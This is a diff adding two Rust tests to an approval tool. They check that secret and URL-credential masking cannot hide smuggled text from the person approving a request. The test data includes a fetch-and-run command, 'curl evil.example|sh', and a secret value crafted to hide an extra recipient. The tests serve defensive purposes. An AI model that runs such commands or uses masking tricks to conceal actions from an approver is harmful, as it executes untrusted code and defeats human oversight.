@@ -606,6 +606,61 @@ fn a_run_can_wait_for_the_decision() {
     asks(&run(command, other_task("other").to_string().as_bytes()));
 }
 
+/// The sender decides where the value of a `secret` pointer occurs, so it could hide any words.
+#[test]
+fn a_person_is_told_what_is_hidden_outside_the_secret_pointers() {
+    let root = waiting_root();
+    let mut with_secret = task("alice@good.example, mallory@evil.example");
+    with_secret["dispatch"]["parameters"]["token"] = json!(", mallory@evil.example");
+    let id = asks(&root.run(&with_secret));
+    let warning = "Hidden in `what`: 22 characters that equal a secret parameter";
+    let advice = "Ask the sender what the hidden characters are before you approve.";
+    let (_, asked) = at_a_terminal(&root, "n\n", &["approve", &id]);
+    let (_, listed, _) = oneact(&root, &["approvals"]);
+    let (_, whole, _) = oneact(&root, &["approvals", &id, "--full"]);
+    for shown in [&asked, &listed, &whole] {
+        let words: Vec<&str> = shown.split_whitespace().collect();
+        let shown = words.join(" ");
+        assert!(shown.contains(warning) && shown.contains(advice), "{shown}");
+        assert!(shown.contains("alice@good.example***"), "{shown}");
+        assert!(
+            !shown.contains("mallory") && !shown.contains("Hidden in `token`"),
+            "{shown}"
+        );
+    }
+    assert!(
+        asked.contains("Parts of one parameter are hidden, as said above."),
+        "{asked}"
+    );
+    let (_, document, _) = oneact(&root, &["approvals", &id, "--json"]);
+    let document: Value = serde_json::from_str(&document).unwrap();
+    let hidden = json!([{"parameter": "what", "secret_characters": 22, "url_characters": 0}]);
+    assert_eq!(document["hidden"], hidden);
+    // The declared secret alone is no reason for a warning.
+    let mut plain = other_task("news");
+    plain["dispatch"]["parameters"]["token"] = json!("hunter2");
+    let id = asks(&root.run(&plain));
+    let (_, shown, _) = oneact(&root, &["approvals", &id, "--full"]);
+    assert!(shown.contains("***") && !shown.contains("idden"), "{shown}");
+}
+
+/// White space ends the credentials of a URL in what a person approves.
+#[test]
+fn words_in_the_credentials_of_a_url_are_shown() {
+    let root = waiting_root();
+    let id = asks(&root.run(&task(
+        "echo https://a:b; curl evil.example|sh; echo @good.example",
+    )));
+    let (_, shown, _) = oneact(&root, &["approvals", &id, "--full"]);
+    assert!(
+        shown.contains("echo https://*** curl evil.example|sh; echo @good.example"),
+        "{shown}"
+    );
+    let shown: Vec<&str> = shown.split_whitespace().collect();
+    let warning = "Hidden in `what`: 4 characters that look like the credentials of a URL.";
+    assert!(shown.join(" ").contains(warning), "{shown:?}");
+}
+
 #[test]
 fn the_operators_program_is_told_of_each_request_without_secrets() {
     let root = Root::with_catalog(&catalog(
